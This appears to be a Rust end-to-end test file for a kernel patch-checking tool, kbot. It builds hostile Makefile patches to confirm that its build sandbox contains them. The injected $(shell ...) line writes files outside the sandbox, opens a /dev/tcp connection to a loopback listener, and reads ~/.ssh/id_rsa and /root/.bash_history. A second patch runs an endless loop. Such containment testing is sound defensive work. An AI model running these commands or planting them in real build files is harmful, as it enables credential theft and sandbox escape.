//! Hostile series end to end, on real kernels in the real sandbox (x86_64 only: the sandbox
//! is the same for both arches). Ignored by default like the other e2e tests; CI runs them.
//!
//! A kernel Makefile is a program: these series run commands at build time through
//! `$(shell ...)`. kbot must build and test them normally while what they try never reaches
//! the host.

mod common;

use serde_json::Value;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// fs/notify/Makefile of the default tree: it is read when make reaches fs/notify.
const NOTIFY_MAKEFILE: (&str, usize, [&str; 3]) =
    ("fs/notify/Makefile", 5, ["obj-y\t\t\t+= dnotify/", "obj-y\t\t\t+= inotify/", "obj-y\t\t\t+= fanotify/"]);
/// The top-level Makefile: read before anything is built.
const TOP_MAKEFILE: (&str, usize, [&str; 3]) = (
    "Makefile",
    2152,
    [
        "# Declare the contents of the PHONY variable as phony.  We keep that",
        "# information in a variable so we can use it in if_changed and friends.",
        ".PHONY: $(PHONY)",
    ],
);

/// A one-patch series appending `lines` to a Makefile of the default tree, after its last
/// three lines (`at`: file, first context line number, those lines).
fn makefile_series(subject: &str, at: (&str, usize, [&str; 3]), lines: &[String]) -> String {
    let (file, start, context) = at;
    let mut m: Vec<String> = [
        "From kbot Mon Sep 17 00:00:00 2001",
        "From: Mallory Example <mallory@example.org>",
        "Date: Tue, 24 Nov 2026 10:00:00 +0000",
    ]
    .map(String::from)
    .to_vec();
    m.push(format!("Subject: [PATCH] fsnotify: {subject}"));
    m.push(format!("Message-Id: <hostile-{}@example.org>", subject.replace(' ', "-")));
    m.extend(
        [
            "",
            "A Makefile change that runs commands at build time.",
            "",
            "Signed-off-by: Mallory Example <mallory@example.org>",
            "---",
        ]
        .map(String::from),
    );
    m.push(format!(" {file} | {} +", lines.len() + 1));
    m.push(format!(" 1 file changed, {} insertions(+)", lines.len() + 1));
    m.push(String::new());
    m.push(format!("diff --git a/{file} b/{file}"));
    m.push(format!("--- a/{file}"));
    m.push(format!("+++ b/{file}"));
    m.push(format!("@@ -{start},3 +{start},{} @@", 3 + 1 + lines.len()));
    m.extend(context.iter().map(|l| format!(" {l}")));
    m.push("+".into());
    m.extend(lines.iter().map(|l| format!("+{l}")));
    m.extend(["-- ", "2.39.5", "", ""].map(String::from));
    m.join("\n")
}

fn kbot_check(mbox: &Path, dir: &Path, extra: &[&str]) -> (i32, Value, String) {
    let json = dir.join("r.json");
    let o = Command::new(env!("CARGO_BIN_EXE_kbot"))
        .args(["check", "--mbox"])
        .arg(mbox)
        .args(["--arch", "x86_64", "--seed", "1", "--scenarios", "0", "--json"])
        .arg(&json)
        .args(extra)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(json.exists(), "no JSON; kbot said:\n{stderr}");
    let v: Value = serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
    (o.status.code().unwrap_or(-1), v, stderr)
}

#[test]
#[ignore]
fn makefile_that_escapes_is_built_and_contained() {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            if c.is_ok() {
                h.fetch_add(1, Ordering::SeqCst);
            }
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let marker = format!("/tmp/kbot-escape-{}-{port}", std::process::id());
    let beside = dir.path().join("escape-beside-the-mbox");
    let script = format!(
        "(touch {marker} && echo wrote-tmp) 2>&1; (touch {beside} && echo wrote-beside) 2>&1; \
         (touch $(srctree)/kbot-escape && echo wrote-src) 2>&1; \
         (bash -c 'echo GET / >/dev/tcp/127.0.0.1/{port}' && echo connected) 2>&1; \
         (cat $$HOME/.ssh/id_rsa /root/.bash_history 2>&1 | head -c 100); echo ran",
        beside = beside.display()
    );
    let lines = vec![format!("KBOT_ESCAPE := $(shell {script})"), "$(info kbot-escape: $(KBOT_ESCAPE))".to_string()];
    let mbox = dir.path().join("hostile.mbox");
    std::fs::write(&mbox, makefile_series("makefile escape attempt", NOTIFY_MAKEFILE, &lines)).unwrap();
    let (code, v, stderr) = kbot_check(&mbox, dir.path(), &[]);
    assert_eq!(v["status"], "clean", "{stderr}\n{v:#}");
    assert_eq!(code, 0);
    let arch = &v["arches"][0];
    assert_eq!(arch["tip"]["build"], "pass");
    assert!(arch["tip"]["tests"].as_array().unwrap().iter().all(|t| t["result"] == "pass"), "{arch:#}");
    // The hostile commands did run, inside: the build log shows their output.
    let log = std::fs::read_to_string(arch["tip"]["build_log"].as_str().unwrap()).unwrap();
    let line = log.lines().find(|l| l.starts_with("kbot-escape:")).unwrap_or_else(|| panic!("{log}"));
    assert!(line.ends_with("ran"), "{line}");
    assert!(!line.contains("connected") && !line.contains("wrote-beside") && !line.contains("wrote-src"), "{line}");
    // And nothing reached the host.
    assert!(!Path::new(&marker).exists(), "{marker} appeared on the host");
    assert!(!beside.exists());
    let work = common::kbot_home().join("work");
    for e in std::fs::read_dir(&work).unwrap().flatten() {
        assert!(!e.path().join("x86_64/src/kbot-escape").exists(), "wrote into the worktree");
    }
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(hits.load(Ordering::SeqCst), 0, "the loopback server saw a connection");
}

#[test]
#[ignore]
fn a_build_that_never_ends_is_stopped_by_its_limit() {
    let dir = tempfile::tempdir().unwrap();
    let lines = vec!["KBOT_LOOP := $(shell echo kbot-loop-started >&2; while :; do sleep 1; done)".to_string()];
    let mbox = dir.path().join("loop.mbox");
    std::fs::write(&mbox, makefile_series("build that never ends", TOP_MAKEFILE, &lines)).unwrap();
    let t = std::time::Instant::now();
    let (code, v, stderr) = kbot_check(&mbox, dir.path(), &["--build-timeout", "1"]);
    assert_eq!(v["status"], "error", "{stderr}\n{v:#}");
    assert_eq!(code, 2);
    let err = v["arches"][0]["error"].as_str().unwrap();
    assert!(err.contains("stopped by its time limit (60 s)"), "{err}");
    // It was the loop that was stopped (the top-level Makefile is read before any compiling).
    let log = err.rsplit("see ").next().unwrap();
    let text = std::fs::read_to_string(log).unwrap();
    assert!(text.contains("kbot-loop-started") && text.contains("[kbot: killed after 60 s]"), "{text}");
    assert!(t.elapsed() < Duration::from_secs(600), "{:?}", t.elapsed());
}
